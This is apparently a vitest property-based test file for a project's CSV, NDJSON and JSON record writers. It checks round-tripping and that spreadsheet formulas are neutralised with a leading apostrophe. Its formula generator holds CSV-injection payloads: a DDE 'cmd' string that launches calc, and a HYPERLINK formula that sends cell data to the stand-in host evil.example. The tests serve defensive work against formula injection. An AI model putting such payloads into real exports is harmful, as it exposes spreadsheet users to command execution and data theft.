import { execFileSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { expect, test } from "vitest";
import type { Column } from "../../src/formats/columns.ts";
import { SEED, times } from "../support/effort.ts";
import { parseCsv } from "../support/parse-csv.ts";
import { describeWith } from "../support/requirement.ts";
import { tally } from "../support/tally.ts";
import { makeTempFolder } from "../support/temp-folder.ts";
import { WRITERS } from "../support/writers.ts";

const COLUMNS: readonly Column[] = ["first", "second", "third", "fourth", "fifth"].map((name) => ({
  name,
  keys: [name],
  kind: "scalar",
  description: "",
}));

function toRecords(cells: readonly string[]): Record<string, string>[] {
  return Array.from({ length: Math.floor(cells.length / COLUMNS.length) }, (_, row) =>
    Object.fromEntries(COLUMNS.map(({ name }, column) => [name, cells[row * COLUMNS.length + column] ?? ""])),
  );
}

function writeAll(
  format: keyof typeof WRITERS,
  records: readonly object[],
  options: Partial<WriterOptions> = {},
): string {
  const writer = WRITERS[format]({ columns: COLUMNS, ...options });
  const end = { nextCursor: null, count: records.length, partial: false };
  return writer.open() + writer.write(records) + writer.close(end);
}

/** All that has ever confused a reader of CSV or JSON. */
const ODD = [
  ",",
  '"',
  '""',
  "\n",
  "\r",
  "\r\n",
  ";",
  "\t",
  " ",
  "'",
  "\\",
  "\\n",
  "\\ud800",
  "\0",
  "\u001B[31m",
  "|",

  "\u0085",
  "\u2028",
  "\u2029",
  "\uFEFF",
  "\u202E",
  "\uD800",
  "\uDC00",
  "é",
  "e\u0301",
  "😀",
  "李",
  "＝",
  "NULL",
  "=",
  "+",
  "-",
  "@",
  "__proto__",
  "true",
  "1e5",
  "%",
];
const odd = fc.constantFrom(...ODD);
const text = fc.oneof(
  fc.string({ unit: odd, maxLength: 12 }),
  fc.string({ unit: "binary", maxLength: 12 }),
  fc.string({ unit: "grapheme", maxLength: 12 }),
);

/** What a spreadsheet would run: a sign that begins a formula, and in it the name of something. */
const formula = fc
  .tuple(
    fc.constantFrom(
      "=",
      "+",
      "-",
      "@",
      "\t=",
      "\r=",
      "\n=",
      " =",
      "\u00A0=",
      "\uFEFF=",
      "＝",
      "＋",
      "－",
      "＠",
      "=-",
      "++",
      "-+",
    ),
    fc.stringMatching(/^[0-9+*(). ]{0,6}$/u),
    fc.constantFrom(
      "A1",
      "cmd|'/C calc'!A0",
      'HYPERLINK("https://evil.example?"&A1)',
      "SUM(A1:B2)",
      "$B$2",
      "x1y",
    ),
    text,
  )
  .map((parts) => parts.join(""));

/** What begins like a formula, or could, and is none. */
const harmless = fc.oneof(
  fc.integer().map(String),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
  fc
    .tuple(fc.constantFrom("", "+", "-"), fc.nat(9_999_999))
    .map(([sign, count]) => `${sign}${(count / 100).toFixed(2)}`),
  fc.nat(999_999).map((count) => `-${count.toLocaleString("en-US")}.50`),
  fc.stringMatching(/^\+\d{1,3} \(\d{3}\) \d{3}-\d{4}( x\d{1,4})?$/u),
  fc.stringMatching(/^\+\d{7,14}$/u),
  fc.stringMatching(/^\d{4}-(0[1-9]|1[0-2])-(0[1-9]|[12]\d)(T[0-2]\d:[0-5]\d:[0-5]\dZ)?$/u),
);

const KINDS = { text, formula, harmless };

function sample(kind: keyof typeof KINDS, count: number): string[] {
  return fc.sample(KINDS[kind], { numRuns: count, seed: SEED });
}

/** Half a character cannot be written as UTF-8, and nothing else is ever replaced. */
const wellFormed = (cell: string): string => cell.replaceAll(/\p{Surrogate}/gu, "\uFFFD");

test.each([
  ["with LF", { excel: false }],
  ["for Excel", { excel: true }],
] as const)("every text comes back from CSV %s, untouched where formulas may stay", (_, { excel }) => {
  const records = toRecords(sample("text", times(2_000, 50_000)));
  const written = writeAll("csv", records, { safe: false, excel });
  const rows = parseCsv(excel ? written.slice(1) : written, excel ? "\r\n" : "\n");
  expect(rows.slice(1)).toEqual(records.map((record) => Object.values(record).map(wellFormed)));
});

/** Whether a cell is what was sent, with marks at its start or where it could be divided, and nowhere else. */
function isSentWithMarks(cell: string, sent: string): boolean {
  let at = 0;
  for (const [index, sign] of cell.split("").entries()) {
    if (sign === sent[at]) at += 1;
    else if (sign !== "'" || !/(?:^|[;\t\r\n])\s*$/u.test(cell.slice(0, index))) return false;
  }
  return at === sent.length;
}

/** A call that would begin a cell where semicolons, tabs or line breaks divide cells. */
const RUNS_IN_PARTS = /[;\t\r\n]["\s]*[=+\-@＝＋－＠][^;\t\r\n]*[A-Z$]/u;

test("cells come back from CSV: formulas behind marks, numbers, dates and phones and all else as they were", (context) => {
  const counts = {
    cells: 0,
    changed: 0,
    "formulas neutralised": 0,
    "numbers, dates and phones left alone": 0,
  };
  const share = times(1_500, 66_670);
  for (const kind of ["text", "formula", "harmless"] as const) {
    const cells = sample(kind, share);
    const read = parseCsv(writeAll("csv", toRecords(cells)))
      .slice(1)
      .flat();
    for (const [index, cell] of read.entries()) {
      const sent = wellFormed(cells[index] ?? "");
      counts.cells += 1;
      if (!isSentWithMarks(cell, sent)) counts.changed += 1;
      if (kind === "formula" && cell.startsWith("'") && !RUNS_IN_PARTS.test(cell))
        counts["formulas neutralised"] += 1;
      if (kind === "harmless" && cell === sent) counts["numbers, dates and phones left alone"] += 1;
    }
  }
  const each = share - (share % COLUMNS.length);
  expect(counts).toEqual({
    cells: 3 * each,
    changed: 0,
    "formulas neutralised": each,
    "numbers, dates and phones left alone": each,
  });
  tally(context, "R12", counts);
});

test("records come back from NDJSON and JSON, with whatever keys and values they have", (context) => {
  const value = fc.oneof(
    text,
    fc.constantFrom(null, true, false, 0, -0.5, 1e21, Number.MAX_SAFE_INTEGER),
    fc.array(text, { maxLength: 3 }),
    fc.dictionary(text, text, { maxKeys: 3 }),
  );
  const records = fc.sample(fc.dictionary(text, value, { maxKeys: 5 }), {
    numRuns: times(500, 20_000),
    seed: SEED,
  });
  // What JSON itself makes of them, but for halves of characters: those would be refused by others.
  const sent = records.map((record) => JSON.stringify(record, (_, part: unknown) => cleanPart(part)));
  const lines = writeAll("ndjson", records).split("\n");
  expect(lines.pop()).toBe("");
  expect(lines.map((line) => JSON.stringify(JSON.parse(line)))).toEqual(sent);
  const { result } = JSON.parse(writeAll("json", records)) as { result: unknown[] };
  expect(result.map((record) => JSON.stringify(record))).toEqual(sent);
  const changed = lines.filter((line, index) => JSON.stringify(JSON.parse(line)) !== sent[index]).length;
  tally(context, "R12", { records: records.length, changed });
});

function cleanPart(part: unknown): unknown {
  if (typeof part === "string") return wellFormed(part);
  if (typeof part !== "object" || part === null || Array.isArray(part)) return part;
  return Object.fromEntries(Object.entries(part).map(([key, inner]) => [wellFormed(key), inner as unknown]));
}

const READER = `
import csv, json, sys
csv.field_size_limit(10 ** 9)
with open(sys.argv[1], newline="", encoding="utf-8") as file:
    json.dump(list(csv.reader(file, strict=True)), sys.stdout)
`;
import type { WriterOptions } from "../../src/formats/record-writer.ts";

describeWith(["python3"], "CSV that somebody else's reader takes", () => {
  test("comes back unchanged from Python", (context) => {
    // Older ones refuse a zero byte anywhere in a file.
    const cells = ["text", "formula", "harmless"].flatMap((kind) =>
      sample(kind as keyof typeof KINDS, times(500, 10_000)).map((cell) => cell.replaceAll("\0", "")),
    );
    const records = toRecords(cells);
    const path = join(makeTempFolder(), "people.csv");
    writeFileSync(path, writeAll("csv", records, { safe: false }));
    const json = execFileSync("python3", ["-c", READER, path], { encoding: "utf8", maxBuffer: 1 << 28 });
    const rows = (JSON.parse(json) as string[][]).slice(1);
    const sent = records.map((record) => Object.values(record).map(wellFormed));
    expect(rows).toEqual(sent);
    const wanted = sent.flat();
    const changed = rows.flat().filter((cell, index) => cell !== wanted[index]).length;
    tally(context, "R12", { cells: rows.flat().length, changed });
  });
});
